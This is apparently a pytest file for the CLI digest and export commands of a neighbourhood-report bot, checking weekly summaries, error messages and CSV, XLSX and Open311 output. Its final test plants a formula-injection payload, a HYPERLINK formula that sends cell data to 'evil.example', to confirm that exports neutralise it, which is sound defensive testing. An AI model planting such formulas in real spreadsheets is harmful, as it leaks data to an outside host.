"""`linli digest` and `linli export` over a small database: output, formats, and one-sentence errors."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from harness import COMMUNITY_TOML
from openpyxl import load_workbook

from bot.cli.main import main
from bot.core import weeks
from storage import meta
from storage.database import Database

SH = ZoneInfo("Asia/Shanghai")


def at(day: int, hh: int) -> int:
    return int(datetime(2026, 11, day, hh, tzinfo=SH).timestamp())


async def _seed(path: Path) -> None:
    db = await Database.open(path)
    rows = [
        (
            1,
            "3号楼2单元楼道灯坏了",
            "repair",
            "yellow",
            "3",
            "2",
            "A",
            "closed",
            at(16, 9),
            at(16, 10),
            at(16, 15),
            "fixed",
        ),
        (2, "6号楼晚上有人装修很吵", "noise", "green", "6", None, "B", "dispatched", at(18, 22), None, None, None),
        (3, "1号楼垃圾没人收", "sanitation", "green", "1", None, "A", "closed", at(24, 8), None, at(24, 12), "fixed"),
    ]
    async with db.tx() as c:
        for r in rows:
            await c.execute(
                "INSERT INTO events (id, chat_id, message_id, reporter_id, reporter_name, text, category, urgency,"
                " building, unit, grid_id, status, created_at, accepted_at, closed_at, outcome)"
                " VALUES (?, -100, ?, 5001, '刘阿姨', ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
                (r[0], r[0], *r[1:]),
            )
        # 王师傅 (in the file) accepted #1; #2 waits for 小周, who joined by invite link (not in the file)
        await c.execute("UPDATE events SET assignee_id = 2001 WHERE id = 1")
        await c.execute("UPDATE events SET assignee_id = 7007 WHERE id = 2")
        await c.execute("INSERT INTO workers (user_id, name, source, active) VALUES (7007, '小周', 'invite', 1)")
    await db.close()


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "community.toml").write_text(COMMUNITY_TOML, encoding="utf-8")
    monkeypatch.setenv("DATABASE_PATH", str(tmp_path / "linli.db"))
    monkeypatch.setenv("COMMUNITY_FILE", str(tmp_path / "community.toml"))
    asyncio.run(_seed(tmp_path / "linli.db"))
    return tmp_path


def test_digest_prints_text_and_writes_chart(env: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["digest", "--week", "2026-W47", "--out", str(env / "w47.png")]) == 0
    out = capsys.readouterr().out
    assert "社区周报 2026-W47" in out and "新报 2" in out and "办结 1" in out and "<b>" not in out
    assert "第一网格 1" in out and "第二网格 1" in out
    assert (env / "w47.png").read_bytes().startswith(b"\x89PNG")


def test_digest_counts_late_by_the_bots_own_waiting_times(
    env: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """#2, a green report nobody accepted, waited 98 hours by the end of W47. The committee lets a green wait five
    days (GREEN_ESCALATE_S): /digest does not count it late, and `linli digest` told it late all the same, by the
    default hour (committee secretary review: the printed digest and the chat's disagreed on "超时")."""
    monkeypatch.setenv("GREEN_ESCALATE_S", str(5 * 86400))
    assert main(["digest", "--week", "2026-W47", "--out", str(env / "w47.png")]) == 0
    out = capsys.readouterr().out
    assert "#2" not in out and "超时：未办结 0 件" in out
    monkeypatch.setenv("GREEN_ESCALATE_S", str(3600))
    assert main(["digest", "--week", "2026-W47", "--out", str(env / "w47.png")]) == 0
    assert "超时未办结：#2 🟢" in capsys.readouterr().out


def test_digest_of_a_quiet_week(env: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["digest", "--week", "2026-W40", "--out", str(env / "q.png")]) == 0
    assert "平安无事" in capsys.readouterr().out


def test_a_week_before_the_bot_first_ran_has_no_digest(env: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """As /digest says it: not "平安无事" for a week the bot was not running in (it could not have seen a report)."""

    async def started() -> None:
        db = await Database.open(env / "linli.db")
        async with db.tx() as c:
            await meta.record_start(c, datetime(2026, 11, 10, 9, tzinfo=ZoneInfo("Asia/Shanghai")))
        await db.close()

    asyncio.run(started())
    assert main(["digest", "--week", "2026-W40", "--out", str(env / "w40.png")]) != 0
    err = capsys.readouterr().err
    assert "not running yet in 2026-W40" in err and "2026-11-10" in err
    assert main(["digest", "--week", "2026-W47", "--out", str(env / "w47.png")]) == 0  # a week it ran in


def test_a_week_not_begun_has_no_digest(env: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Not "a quiet week" with its dates backwards: the week named has not begun."""
    tz = ZoneInfo("Asia/Shanghai")
    later = weeks.shift(weeks.week_of(datetime.now(tz), tz), 2, tz).label
    assert main(["digest", "--week", later, "--out", str(env / "later.png")]) != 0
    err = capsys.readouterr().err
    assert f"{later} has not begun yet" in err and "平安无事" not in err


@pytest.mark.parametrize(
    ("argv", "needle"),
    [
        (["digest", "--week", "2026-W60"], "has no week 60"),
        (["digest", "--week", "soon"], "is not a week"),
        (["digest", "--week", "2026-W47", "--out", "/nonexistent/dir/x.png"], "cannot write"),
        (["export", "--since", "2026-11-20", "--until", "2026-11-01"], "is after --until"),
        (["export", "--until", "9999-12-31"], "out of range"),
        (["digest", "--week", "0001-W01"], "the year must be"),
        (["export", "--since", "yesterday"], "is not a date"),
        (["export", "--format", "xlsx"], "give --out FILE"),
        (["export", "--out", "/nonexistent/dir/x.csv"], "cannot write"),
    ],
)
def test_bad_arguments_get_one_sentence(env: Path, capsys: pytest.CaptureFixture[str], argv, needle) -> None:
    assert main(argv) != 0
    err = capsys.readouterr().err.strip()
    assert needle in err and err.count("\n") == 0 and err.endswith(".")


def test_missing_database(env: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("DATABASE_PATH", str(env / "nope.db"))
    assert main(["digest"]) == 2
    assert "does not exist" in capsys.readouterr().err
    assert not (env / "nope.db").exists()


@pytest.mark.parametrize("argv", [["digest"], ["export"]])
def test_a_file_that_is_not_a_database(
    env: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], argv: list[str]
) -> None:
    (env / "notes.txt").write_text("not a database " * 100)
    monkeypatch.setenv("DATABASE_PATH", str(env / "notes.txt"))
    assert main(argv) == 2
    err = capsys.readouterr().err.strip()
    assert "not a Linli database" in err and "Traceback" not in err and err.count("\n") == 0


def test_export_csv_range(env: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "--since", "2026-11-16", "--until", "2026-11-22"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out.lstrip("\ufeff"))))
    assert [r["编号"] for r in rows] == ["1", "2"]
    assert rows[0]["登记时间"] == "2026-11-16T09:00:00+08:00" and rows[0]["类别"] == "设施报修"
    assert (rows[0]["紧急程度"], rows[0]["状态"], rows[0]["办结结果"]) == ("较急", "已办结", "问题已解决")
    assert (rows[0]["网格"], rows[0]["负责人"], rows[1]["负责人"]) == ("第一网格", "王师傅", "小周")
    assert "报告人" not in rows[0] and "刘阿姨" not in str(rows)  # reporters are not exported


def test_export_xlsx(env: Path) -> None:
    assert main(["export", "--format", "xlsx", "--out", str(env / "e.xlsx")]) == 0
    ws = load_workbook(env / "e.xlsx").active
    values = list(ws.values)
    assert ws.title == "事件" and len(values) == 4
    head = values[0]
    assert head[:5] == ("编号", "登记时间", "类别", "紧急程度", "状态")
    first, second = (dict(zip(head, row, strict=True)) for row in values[1:3])
    assert (first["类别"], first["状态"], first["负责人"]) == ("设施报修", "已办结", "王师傅")
    assert (second["类别"], second["状态"], second["负责人"], second["网格"]) == ("噪音", "待接单", "小周", "第二网格")


def test_export_open311(env: Path) -> None:
    assert main(["export", "--format", "open311", "--out", str(env / "o.json")]) == 0
    reqs = json.loads((env / "o.json").read_text(encoding="utf-8"))
    assert [r["service_request_id"] for r in reqs] == ["1", "2", "3"]
    first = reqs[0]
    assert set(first) == {
        "service_request_id",
        "status",
        "status_notes",
        "service_name",
        "service_code",
        "description",
        "agency_responsible",
        "requested_datetime",
        "updated_datetime",
        "address",
    }
    assert first["status"] == "closed" and reqs[1]["status"] == "open"
    assert first["service_code"] == "repair" and first["service_name"] == "设施报修"
    assert first["status_notes"] == "问题已解决"
    assert first["agency_responsible"] == "滨海社区 第一网格"
    assert first["requested_datetime"] == "2026-11-16T09:00:00+08:00"
    assert first["updated_datetime"] == "2026-11-16T15:00:00+08:00"
    assert first["address"] == "滨海社区 3号楼2单元"


def test_exports_never_hold_a_formula(env: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A report or a note that starts like a formula stays text in CSV and XLSX (found in review: "=HYPERLINK(…)"
    in a report ran in the committee's spreadsheet)."""
    evil = '=HYPERLINK("http://evil.example/?"&A2,"3号楼电梯坏了")'

    async def plant() -> None:
        db = await Database.open(env / "linli.db")
        async with db.tx() as c:
            await c.execute("UPDATE events SET text = ?, outcome_note = '+1 done' WHERE id = 1", (evil,))
        await db.close()

    asyncio.run(plant())
    assert main(["export", "--since", "2026-11-16", "--until", "2026-11-22"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out.lstrip("\ufeff"))))
    cells = [v for v in rows[0].values() if v and "HYPERLINK" in v]
    assert cells == ["'" + evil]
    assert main(["export", "--format", "xlsx", "--out", str(env / "e.xlsx")]) == 0
    ws = load_workbook(env / "e.xlsx").active
    found = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert [(c.value, c.data_type) for c in found] == [(evil, "s")]
